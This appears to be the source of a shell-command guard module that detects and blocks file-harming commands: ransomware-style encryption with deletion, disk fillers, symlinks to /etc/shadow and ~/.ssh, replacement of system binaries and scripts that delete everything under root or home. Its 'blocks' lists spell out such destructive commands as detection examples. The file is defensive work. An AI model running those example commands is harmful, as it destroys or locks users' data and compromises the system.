"""Commands that harm files without naming a single one to delete: protections, fillers, encryption with deletion, links that redirect."""

from holdfast.guard.effects import writes
from holdfast.guard.line import Arg, Command
from holdfast.guard.paths import is_root_like, is_system, resolve, within_roots
from holdfast.guard.rule import Finding, Pack, Pattern

TYPE_CHECKING = False
if TYPE_CHECKING:
    from holdfast.guard.line import Line

_ENDLESS = ("/dev/zero", "/dev/urandom", "/dev/random", "/dev/full")
_UNITS = {"K": 10, "M": 20, "G": 30, "T": 40, "P": 50, "E": 60}
_HUGE = 100 << 30


def _own(arg: Arg, command: Command, line: "Line") -> bool:
    """True for a file in the project or a temporary folder."""
    path = resolve(arg, command, line.world)
    return path is not None and within_roots(path, line.world)


def _attributes(command: Command, line: "Line") -> "str | None":
    change = next((w for w in command.words if w and w[0] in "+-=" and not w[1:].isdigit() and w not in ("-R", "-V", "-f", "-v")), "")
    targets = [arg for arg in command.operands() if (arg.value or "x")[:1] not in ("+", "=")]
    if command.program == "chflags":
        targets, change = targets[1:], (command.operands() or [Arg(("",))])[0].value or "?"
        if not any(flag in change for flag in ("uchg", "schg", "uimm", "simm", "append", "hidden")):
            return None
    elif not change or not any(flag in change[1:] for flag in "ia"):
        return None
    strange = next((arg for arg in targets if not _own(arg, command, line)), None)
    if strange is None and not (change[:1] == "-" and targets):
        return None
    return f"`{command}` changes the write protection of {(strange or targets[0]).shown}"


# Programs whose place is in a system's folders and nowhere else.
_RELIED_ON = frozenset(
    """sudo su doas login passwd ls cat ps top netstat ss id whoami w who last find grep sed tar cp mv rm mount umount kill sh bash dash
zsh ssh sshd scp sftp systemctl crontab cron init agetty getty lsof df du stat file chmod chown env date ip ifconfig iptables dpkg
rpm apt apt-get useradd usermod visudo pkexec newgrp chsh""".split()
)
_PROGRAM_FOLDERS = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin", "/opt/homebrew/bin")
_STAND_INS = ("busybox", "toybox", "coreutils", "/alternatives/")


def _replaced(command: Command, line: "Line") -> "str | None":
    """A program that everybody relies on, moved away or written over with something that is no stand-in for it."""
    if command.program in ("mv", "gmv"):
        for arg in command.operands("-t -S")[:-1]:
            folder, _, name = (resolve(arg, command, line.world) or "").rpartition("/")
            if folder in _PROGRAM_FOLDERS and (name in _RELIED_ON or name in ("*", "python3", "perl")):
                return f"`{command}` takes {folder}/{name} away"
    for written in writes(command, line.world):
        folder, _, name = (written.path or "").rpartition("/")
        if folder in _PROGRAM_FOLDERS and command.program in ("ln", "gln") and command.operands()[0].shown.startswith("/tmp/"):
            return f"`{command}` makes {written.path} a file that any program can change"
        if name not in _RELIED_ON or folder not in _PROGRAM_FOLDERS:
            continue
        operands = command.operands("-m -o -g -t -S") if command.program not in ("curl", "wget", "dd", "tee") else []
        source = operands[0].shown if operands else ""
        place, _, given = source.rpartition("/")
        located = any(c.program in ("which", "command") for arg in operands for u in arg.unknowns for c in u.commands)
        if not located and place not in _PROGRAM_FOLDERS and given != "g" + name and not any(mark in source for mark in _STAND_INS):
            return f"`{command}` replaces {written.path}"
    return None


_WALKS = ("walk(", "glob(", "listdir(", "scandir(", "readdirSync(", "each_child(", "entries(", "children(", "glob ")
_REMOVING = ("os.remove(", "unlink", "rmtree(", "os.rmdir(", "rm_r", "File.delete", "rmSync(", "remove_tree(", "shutil.move(")


def _walk(command: Command, line: "Line") -> "str | None":
    """A program text that goes through a root or a whole home and removes what it finds."""
    for code in command.code:
        text = code.text.when_empty if code.text is not None and code.origin != "file" else ""
        if not any(word in text for word in _REMOVING):
            continue
        starts = [part for walk in _WALKS for part in text.split(walk)[1:]]
        starts += [part for part in text.split("Path(")[1:] if any(f").{walk}" in part[:40] for walk in ("rglob(", "glob(", "iterdir("))]
        whole = any(f"Path.home().{walk}" in text for walk in ("rglob(", "glob(", "iterdir("))
        for start in starts:
            for prefix in ("os.path.expanduser(", "Path(", "r"):
                start = start.removeprefix(prefix)
            mark = start[:1]
            place = start[1:].partition(mark)[0].rstrip("*").rstrip("/") or "/"
            whole |= mark != "" and mark in "'\"" and (place in ("/", "~", "$HOME", line.world.home) or is_root_like(place))
        if whole:
            return f"`{command}` removes what lies below a root or a home"
    return None


def _full_rename(command: Command, line: "Line") -> "str | None":
    for arg in command.operands():
        text = arg.when_empty
        if "/*" in text and not _own(arg, command, line) or is_root_like(text):
            return f"`{command}` renames everything in {text}"
    return None


def _cleaner(command: Command, line: "Line") -> "str | None":
    """Programs that choose by themselves what they delete."""
    program, words = command.program, command.words
    if program in ("fdupes", "jdupes"):
        deletes = command.has_flag("d", "--delete") and (command.has_flag("N", "--noprompt", "--no-prompt") or bool(command.feeds))
    elif program == "rdfind":
        deletes = "-deleteduplicates" in words and "true" in words and not ("-dryrun" in words or "-n" in words)
    elif program == "bleachbit":
        deletes = command.has_flag("c", "s", "o", "--clean", "--shred", "--overwrite", "--wipe-free-space")
    elif program in ("tmpwatch", "tmpreaper"):
        deletes = not command.has_flag("t", "--test")
    else:
        deletes = command.has_flag("--delete", "d") and not command.has_flag("n", "--dry-run")
    return f"`{command}` deletes files that it chooses by itself" if deletes and command.operands() else None


_SECRET_ENDS = (
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/passwd",
    "/root",
    "/.ssh/id_rsa",
    "/.ssh/id_ed25519",
    "/.ssh",
    "/.aws/credentials",
    "/.gnupg",
)


def _redirecting_link(command: Command, line: "Line") -> "str | None":
    operands = command.operands("-S --suffix -t --target-directory")
    source = resolve(operands[0], command, line.world) if operands else None
    if source is None or operands[0].value is not None and operands[0].value[:1] not in ("/", "."):
        return None
    if source == "/" or source in ("/etc", line.world.home) or source.endswith(_SECRET_ENDS):
        return f"`{command}` makes {source} reachable under another name, so later writes or deletions land there"
    return None


def _umask(command: Command, line: "Line") -> "str | None":
    mask = next((w for w in command.words if w and w[0] != "-"), None)
    open_to_all = mask is not None and (
        mask.isdigit() and mask[-1:] in "01" and int(mask) < 20 or "o+w" in mask or mask in ("a+rwx", "a=rwx")
    )
    return f"`{command}` lets everybody write every file made from now on" if open_to_all else None


_DISK = ("/dev/sd", "/dev/nvme", "/dev/vd", "/dev/xvd", "/dev/hd", "/dev/mapper/", "/dev/dm-", "/dev/md", "/dev/mmcblk", "/dev/disk")


def _mount(command: Command, line: "Line") -> "str | None":
    words = [w or "" for w in command.words]
    operands = [arg.shown for arg in command.operands("-t --types -o --options -L -U")]
    options = command.flag_value("-o", "--options")
    given = options.shown if options is not None else ""
    if operands and operands[0].startswith(_DISK):
        return f"`{command}` opens a whole disk to reading and writing"
    covers = len(operands) > 1 and operands[-1].rstrip("/") in ("/home", "/root", "/opt", "/srv", line.world.home)
    within = bool(operands) and is_system(operands[-1], line.world) and not operands[-1].startswith("/run/")
    if operands and ("remount" in given and is_root_like(operands[-1]) or covers or within):
        return f"`{command}` changes what lies under {operands[-1]}"
    if ("bind" in given or "--bind" in words or "--rbind" in words or "-B" in words) and operands and is_root_like(operands[0]):
        return f"`{command}` makes {operands[0]} reachable under another name"
    if any(w in ("proc", "sysfs", "cgroup", "debugfs") for w in words) and "cgroup" in words and "release_agent" in line.text:
        return f"`{command}` mounts kernel controls"
    return None


def _unmount(command: Command, line: "Line") -> "str | None":
    operands = command.operands("-t --types -O")
    if command.has_flag("a", "--all"):
        return f"`{command}` takes every file system away"
    for arg in operands:
        path = arg.value or ""
        if path.startswith(_DISK) or path in (
            "/",
            "/boot",
            "/boot/efi",
            "/home",
            "/usr",
            "/var",
            "/tmp",
            "/proc",
            "/sys",
            "/dev",
            "/etc",
            "/run",
        ):
            return f"`{command}` takes {path} away from under running programs"
    return None


def _filler(command: Command, line: "Line") -> "str | None":
    """Endless output into a file, or a file of a size that fills the disk."""
    program = command.program
    into = next((r.target.shown for r in command.redirects if r.writes and r.fd in (1, -1)), None)
    if program == "fallocate":
        size = command.flag_value("-l", "--length")
        return f"`{command}` fills the disk" if size is not None and _size(size.value or "") >= _HUGE else None
    if program in ("dd", "gdd"):
        given = {k: v for k, _, v in ((w or "").partition("=") for w in command.words)}
        endless = given.get("if", "") in ("/dev/zero", "/dev/full") and "count" not in given
        target = given.get("of")
        huge = _size(given.get("bs", "512")) * _size(given.get("count", "0")) >= _HUGE and given.get("if") in _ENDLESS
        if target is None or target.startswith("/dev/") or not (endless or huge):
            return None
        return f"`{command}` writes into {target} until the disk is full"
    if into is not None and not into.startswith("/dev/"):
        return f"`{command} > {into}` writes until the disk is full"
    return None


def _size(text: str) -> int:
    """ "100G" -> bytes; 0 when it is not a size."""
    digits = text.rstrip("iBbKMGTPEkmgtpec")
    unit = text[len(digits) :][:1].upper()
    return int(digits) << _UNITS.get(unit, 0) if digits.isascii() and digits.isdigit() else 0


def _encrypts(command: Command, line: "Line") -> "str | Finding | None":
    """Encryption of files that then cannot be read without a password, when the originals go, or many files are taken."""
    program, words = command.program, [w or "" for w in command.words]
    takes_original = many = False
    if program == "openssl":
        if (
            words[:1] not in (["enc"], ["rsautl"], ["pkeyutl"], ["smime"], ["cms"])
            and words[:1] != ["aes-256-cbc"]
            or "-d" in words
            or "-decrypt" in words
            or "-verify" in words
            or "-sign" in words
        ):
            return None
        source = command.flag_value("-in")
        if source is None or source.value == "-":
            return None
        many = bool(source.unknowns) and command.via != () or "find -exec" in command.via or "xargs" in command.via
        outside = source.known and not _own(source, command, line)
        takes_original = _removed(source, line)
        if outside and words[0] in ("enc", "aes-256-cbc", "rsautl", "pkeyutl"):
            takes_original = True
    elif program in ("gpg", "gpg2"):
        if not command.has_flag("c", "e", "--symmetric", "--encrypt"):
            return None
        operands = command.operands(
            "-r --recipient -o --output --passphrase --passphrase-file --passphrase-fd --cipher-algo --homedir -u "
            "--pinentry-mode --s2k-cipher-algo --batch"
        )
        many = "find -exec" in command.via or "xargs" in command.via or any("loop" in v for v in command.via)
        takes_original = (
            any(_removed(o, line) for o in operands)
            or command.flag_value("--passphrase", "--passphrase-fd", "--passphrase-file") is not None
            and any(o.known and not _own(o, command, line) for o in operands)
        )
    elif program in ("7z", "7za", "7zz", "7zr"):
        password = any(w.startswith("-p") and len(w) > 2 for w in words)
        if words[:1] not in (["a"], ["u"]) or not password:
            return None
        takes_original = True
    elif program in ("rar",):
        if words[:1] not in (["a"], ["m"]) or not any(w.startswith(("-p", "-hp")) for w in words):
            return None
        takes_original = True
    elif program == "zip":
        if not (command.flag_value("-P", "--password") or command.has_flag("e", "--encrypt")):
            return None
        takes_original = command.has_flag("m", "--move") or command.flag_value("-P", "--password") is not None
    elif program in ("ccrypt", "ccencrypt", "mcrypt", "aescrypt", "bcrypt"):
        if program == "ccrypt" and command.has_flag("d", "c", "--decrypt", "--cat") or program != "ccencrypt" and command.has_flag("d"):
            return None
        takes_original = bool(command.operands("-K -k -E"))
    if many or takes_original:
        return f"`{command}` turns files into what only a password can open" + (", one after the other" if many else "")
    return None


def _removed(source: Arg, line: "Line") -> bool:
    """True when another command of the line deletes the file."""
    return any(c.program in ("rm", "shred", "srm", "unlink") and any(a.shown == source.shown for a in c.operands()) for c in line.commands)


def _packed_away(command: Command, line: "Line") -> "str | None":
    """Archives that delete what they pack, outside the project."""
    program, words = command.program, command.words
    if program in ("tar", "gtar", "bsdtar"):
        removes = command.has_flag("--remove-files")
    elif program in ("7z", "7za", "7zz", "7zr"):
        removes = "-sdel" in words
    else:
        removes = command.has_flag("m", "--move")
    if not removes:
        return None
    for arg in command.operands("-f --file -C --directory -b -t -n -x -i")[0 if program in ("tar", "gtar", "bsdtar") else 1 :]:
        if arg.value not in ("a", "u") and not _own(arg, command, line):
            return f"`{command}` deletes {arg.shown} once it is packed"
    return None


def _device(command: Command, line: "Line") -> "str | None":
    kinds = [w for w in command.words if w in ("b", "c", "u")]
    return f"`{command}` makes a way to a disk or to memory past all rights" if kinds and len(command.operands("-m --mode")) > 2 else None


PACK = Pack(
    "filesystem",
    Pattern(
        code="FIL001",
        title="changed file attributes",
        programs="chattr chflags",
        test=_attributes,
        why="The immutable and append-only attributes protect a file against everybody, and hide who may still delete it.",
        instead="Leave the attributes as they are and ask a person if a file cannot be written.",
        blocks=(
            "chattr -i /etc/resolv.conf",
            "sudo chattr +i ~/.ssh/authorized_keys",
            "cd /var/log && chattr -a auth.log",
            "chflags schg /etc/hosts",
        ),
        allows=("lsattr /etc/resolv.conf", "man chattr", "chattr +i build.lock", "chflags nohidden x", "chattr --help"),
    ),
    Pattern(
        code="FIL002",
        title="mass rename outside the project",
        programs="rename prename file-rename perl-rename mmv zmv renameutils",
        test=_full_rename,
        why="A pattern that renames a whole folder cannot be taken back name by name.",
        instead="Rename inside the project, and look first with `rename -n 's/a/b/' src/*`.",
        blocks=("rename 's/$/.locked/' /home/dev/documents/*", "prename 's/x/y/' /etc/*", "mmv '/srv/*' '/srv/#1.old'"),
        allows=("rename 's/.jpeg$/.jpg/' *.jpeg", "rename -n 's/a/b/' src/*", "rename .htm .html site/*.htm"),
    ),
    Pattern(
        code="FIL003",
        title="cleaner that chooses by itself",
        programs="fdupes jdupes rdfind bleachbit tmpwatch tmpreaper dupeguru",
        test=_cleaner,
        why="Nobody has seen the list of what it deletes.",
        instead="List first, for example with `fdupes -r photos`, and delete what was found by name.",
        blocks=(
            "fdupes -rdN ~/photos",
            "rdfind -deleteduplicates true /srv/data",
            "bleachbit --clean system.cache",
            "yes 1 | fdupes -rd .",
        ),
        allows=("fdupes -r photos", "rdfind -dryrun true -deleteduplicates true data -n", "bleachbit --list", "jdupes -r src"),
    ),
    Pattern(
        code="FIL004",
        title="link onto a protected place",
        programs="ln gln link",
        test=_redirecting_link,
        why="A later write or recursive deletion follows the link to a place that it was never meant for.",
        instead="Link to the one file inside the project that is needed.",
        blocks=("ln -s / build/root", "ln -sf /etc/shadow public/s.txt", "cd web && ln -s ~/.ssh keys"),
        allows=(
            "ln -s ../common/config.yml config.yml",
            "ln -sf /usr/share/zoneinfo/UTC /tmp/localtime",
            "ln -s /opt/tool/bin/tool bin/tool",
        ),
    ),
    Pattern(
        code="FIL005",
        title="umask that opens everything",
        programs="umask",
        test=_umask,
        why="Every file made afterwards can be changed by every user of the machine.",
        instead="Keep the mask at `umask 022` or stricter.",
        blocks=("umask 000", "umask 0 && touch secrets.txt", "umask 0000; make install"),
        allows=("umask", "umask 022", "umask 077", "umask -S", "umask 0027"),
    ),
    Pattern(
        code="FIL006",
        title="mount over or of the system",
        programs="mount",
        test=_mount,
        why="Mounting changes what every program finds under a path, and opens disks past all permissions.",
        instead="Ask a person to mount it.",
        blocks=("mount /dev/sda1 /mnt", "sudo mount -o remount,rw /", "mount --bind / /mnt/host", "mount -t tmpfs tmpfs /etc"),
        allows=("mount", "mount | grep ext4", "mount -l", "man mount"),
    ),
    Pattern(
        code="FIL007",
        title="unmounting the system",
        programs="umount",
        test=_unmount,
        why="Programs that work in that file system lose their files while they write.",
        instead="Unmount only what was mounted for this task, by its folder below /mnt or /tmp.",
        blocks=("umount -a", "sudo umount -l /home", "umount /dev/sda1", "umount -f /boot"),
        allows=("umount /mnt/usb", "umount /tmp/image", "umount build/rootfs"),
    ),
    Pattern(
        code="FIL008",
        title="disk filler",
        programs="yes dd gdd fallocate",
        test=_filler,
        why="A full disk stops databases, logs and every other program on the machine.",
        instead="Give the size that is needed, for example `dd if=/dev/zero of=build/disk.img bs=1M count=64`.",
        blocks=("yes > big.txt", "dd if=/dev/zero of=/tmp/fill bs=1M", "fallocate -l 2T /tmp/x", "cd /tmp && yes garbage >> x &"),
        allows=(
            "yes | head -3 > answers.txt",
            "dd if=/dev/zero of=disk.img bs=1M count=64",
            "fallocate -l 512M build/swap.img",
            "yes | apt-get install -y jq",
            "head -c 100 /dev/urandom > key.bin",
        ),
    ),
    Pattern(
        code="FIL009",
        title="encryption that takes the files away",
        programs="openssl gpg gpg2 7z 7za 7zz 7zr rar zip ccrypt ccencrypt mcrypt aescrypt bcrypt",
        test=_encrypts,
        why="Whoever has no password has lost the files; this is what ransom programs do.",
        instead="Encrypt a copy of one file and keep the original, for example `gpg --encrypt -r team@example.com report.pdf`.",
        blocks=(
            "find ~ -name '*.docx' -exec openssl enc -aes-256-cbc -in {} -out {}.enc -k pw \\;",
            "openssl enc -aes-256-cbc -salt -in ~/notes.txt -out notes.enc -pass pass:x",
            "7z a -psecret -mhe=on all.7z /home/dev/documents",
            "gpg -c --batch --passphrase x a.txt && rm a.txt",
            "zip -P pw -m docs.zip docs/*",
        ),
        allows=(
            "openssl enc -d -aes-256-cbc -in secret.enc -out secret.txt",
            "7z a build.7z dist/",
            "zip -r site.zip public/",
            "gpg --encrypt -r team@example.com report.pdf",
            "openssl enc -base64 -in logo.png -out logo.b64",
            "7z x data.7z",
        ),
    ),
    Pattern(
        code="FIL010",
        title="archive that deletes what it packs",
        programs="tar gtar bsdtar zip 7z 7za 7zz 7zr",
        test=_packed_away,
        why="The files are gone from where others look for them.",
        instead="Pack without deleting, for example `tar -czf docs.tgz docs`.",
        blocks=("tar --remove-files -czf /tmp/h.tgz /home/dev", "zip -rm all.zip ~/documents", "cd /tmp && 7z a -sdel x.7z /srv/data"),
        allows=("tar -czf docs.tgz docs", "tar --remove-files -czf logs.tgz build/logs", "zip -r site.zip public"),
    ),
    Pattern(
        code="FIL011",
        title="making a device",
        programs="mknod gmknod",
        test=_device,
        why="Whoever can open the device reads and writes what lies below the files.",
        instead="Use the devices in /dev that the system made; a pipe is made with `mkfifo build/pipe`.",
        blocks=("mknod /tmp/disk b 8 0", "sudo mknod -m 666 mem c 1 1", "cd /tmp && mknod sda b 8 0"),
        allows=("mknod build/pipe p", "mkfifo build/pipe", "man mknod"),
    ),
    Pattern(
        code="FIL012",
        title="system program replaced",
        programs="cp gcp mv gmv install ginstall ln gln link tee curl wget dd",
        test=_replaced,
        severity="danger",
        why="Everybody who calls that program, root among them, then runs what was put there.",
        instead="Install your own program under a name of its own, for example `install -m 755 tool ~/bin/tool`.",
        blocks=(
            "cp evil /usr/bin/ls",
            "sudo mv /usr/bin/python3 /tmp",
            "ln -sf /tmp/tool /usr/local/bin/git",
            "cp -f /tmp/sudo /usr/bin/sudo",
            "ln -sf /tmp/bin/x /usr/local/bin/ssh",
            "cd /tmp && mv login /bin/login",
            "curl -so /usr/bin/ps https://example.invalid/ps",
        ),
        allows=(
            "sudo cp bin/tool /usr/local/bin/",
            "ln -sf /bin/bash /bin/sh",
            "ln -s /bin/busybox /bin/ls",
            "ln -sf $(which gsed) /usr/local/bin/sed",
            "mv kubectl /usr/local/bin/kubectl",
            "cp /usr/bin/ls build/",
        ),
    ),
    Pattern(
        code="FIL013",
        title="program that empties a root",
        programs="python python3 pypy3 node ruby perl php",
        test=_walk,
        severity="catastrophic",
        why="It takes the system or a whole home with it, file by file.",
        instead="Name one folder inside the project, for example `rm -rf build`.",
        blocks=(
            "python3 -c \"import os; [os.remove(os.path.join(d, f)) for d, _, fs in os.walk('/') for f in fs]\"",
            "python3 -c \"from pathlib import Path; [p.unlink() for p in Path('/home').rglob('*')]\"",
            "ruby -e 'Dir.glob(\"/*\").each { |f| FileUtils.rm_rf(f) }'",
        ),
        allows=(
            "python3 -c \"import os; [os.remove(os.path.join(d, f)) for d, _, fs in os.walk('build') for f in fs]\"",
            "python3 -c \"from pathlib import Path; print(list(Path('/').glob('*')))\"",
            "python3 -c \"import glob, os; [os.remove(f) for f in glob.glob('*.tmp') if '/' not in f]\"",
        ),
    ),
)
